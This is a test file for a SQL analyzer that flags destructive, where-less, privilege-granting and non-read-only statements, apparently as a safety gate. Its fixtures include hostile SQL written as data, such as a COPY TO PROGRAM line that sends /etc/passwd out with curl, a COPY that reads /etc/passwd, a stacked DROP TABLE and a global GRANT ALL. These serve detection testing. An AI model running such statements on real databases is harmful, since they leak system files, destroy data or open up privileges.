"""SQL facts: statement kinds, where-less writes, drops, read-only proofs, dialects, failures."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from bastion.analysis.sql import analyze_sql

POSTGRES_MCP = Path("/work/shared/corpora/postgres_mcp/postgres_mcp_safe_sql.jsonl")


@pytest.mark.parametrize(
    "sql, facts",
    [
        ("SELECT * FROM users WHERE id = 1", {"statement_kinds": ["read"], "read_only": True, "tables": ["users"]}),
        ("DROP/**/DATABASE x", {"drops": ["database"], "destructive": True, "statement_kinds": ["ddl"]}),
        ("drop schema public cascade", {"drops": ["schema"], "destructive": True}),
        ("DROP TABLE IF EXISTS a, b", {"drops": ["table"], "tables": ["a", "b"]}),
        ("DELETE FROM users", {"where_less": True, "destructive": True, "statement_kinds": ["delete"]}),
        ("UPDATE users SET admin = true", {"where_less": True, "destructive": True}),
        ("DELETE FROM users WHERE id = 7", {"where_less": False, "destructive": False}),
        ("DELETE FROM users WHERE 1=1", {"where_trivial": True, "destructive": False}),
        ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", {"where_less": True, "read_only": False, "statement_kinds": ["delete", "read"]}),
        ("TRUNCATE sessions", {"truncate": True, "destructive": True}),
        ("COPY t TO PROGRAM 'curl -d @/etc/passwd x'", {"copy_program": True, "destructive": True}),
        ("COPY t FROM '/etc/passwd'", {"copy_file": True, "statement_kinds": ["admin"]}),
        ("GRANT ALL PRIVILEGES ON *.* TO 'admin'@'%'", {"grant_all": True, "grant_global": True, "destructive": True}),
        ("GRANT SELECT ON users TO alice", {"grant_all": False, "destructive": False, "statement_kinds": ["dcl"]}),
        ("ALTER TABLE users DROP COLUMN email", {"alter_drop": True, "destructive": True}),
        ("SELECT * FROM t FOR UPDATE", {"locking": True, "read_only": False}),
        ("SELECT pg_sleep(10)", {"unsafe_functions": ["pg_sleep"], "read_only": False}),
        ("SELECT id INTO backup FROM users", {"select_into": True, "read_only": False}),
        ("EXPLAIN SELECT * FROM users", {"read_only": True, "statements": ["explain"]}),
        ("EXPLAIN DELETE FROM users", {"read_only": True}),
        ("EXPLAIN ANALYZE DELETE FROM users", {"explain_analyze": True, "where_less": True, "read_only": False}),
        ("SELECT 1; DROP TABLE users", {"multi_statement": True, "statement_count": 2, "read_only": False}),
        ("BEGIN; SELECT 1; COMMIT", {"statement_kinds": ["read", "transaction"], "read_only": False}),
        ("SET search_path TO public", {"statement_kinds": ["session"]}),
        ("VACUUM FULL", {"statement_kinds": ["admin"]}),
        ("CALL cleanup()", {"statement_kinds": ["execute"], "read_only": False}),
        ("SELECT 'DROP DATABASE x', \"DELETE\" FROM logs", {"read_only": True, "drops": []}),
        ("-- DELETE everything\nSELECT * FROM users", {"read_only": True}),
        ("", {"statement_count": 0, "read_only": True, "opaque": False}),
    ],
)
def test_statement_facts(sql, facts):
    got = analyze_sql(sql)
    for key, value in facts.items():
        assert got[key] == value, (sql, key, got[key])


@pytest.mark.parametrize("sql", ["SELEC * FROM users", "SELECT * FROM users WHERE (a > 1", "garbage here", "LISTEN", "DO $$ BEGIN x; END $$ ((("])
def test_text_that_does_not_parse_is_opaque_never_read_only(sql):
    got = analyze_sql(sql)
    assert got["read_only"] is False
    assert got["opaque"] or got["statement_kinds"] != ["read"], got


def test_parse_errors_do_not_leak_the_statement():
    got = analyze_sql("SELECT * FRMO users WHERE password = 'hunter2'")
    assert got["parse_error"] and "hunter2" not in json.dumps(got)


def test_dialects():
    assert analyze_sql("SHOW DATABASES", "mysql")["read_only"]
    assert analyze_sql("SELECT `DELETE` FROM users", "mysql")["read_only"]
    assert analyze_sql("PRAGMA table_info(users)", "sqlite")["read_only"]
    assert not analyze_sql("PRAGMA foreign_keys = ON", "sqlite")["read_only"]
    assert analyze_sql("select 1", "postgresql")["dialect"] == "postgres"
    got = analyze_sql("select 1", "no-such-dialect")
    assert got["dialect_unknown"] and got["dialect"] == "postgres"


def test_limits_fail_closed():
    huge = "SELECT 1;" * 30_000
    assert analyze_sql(huge)["opaque"]
    nested = analyze_sql("SELECT " + "(" * 3000 + "1" + ")" * 3000)  # deep enough to exhaust recursion
    assert nested["read_only"] or nested["opaque"]


@pytest.mark.skipif(not POSTGRES_MCP.exists(), reason="corpus not available")
def test_postgres_mcp_agreement_at_least_95_percent():
    rows = [json.loads(line) for line in POSTGRES_MCP.read_text().splitlines()]
    agree = sum((analyze_sql(r["sql"], r.get("dialect"))["read_only"]) == (r["expect"] == "allow") for r in rows)
    assert agree / len(rows) >= 0.95, agree
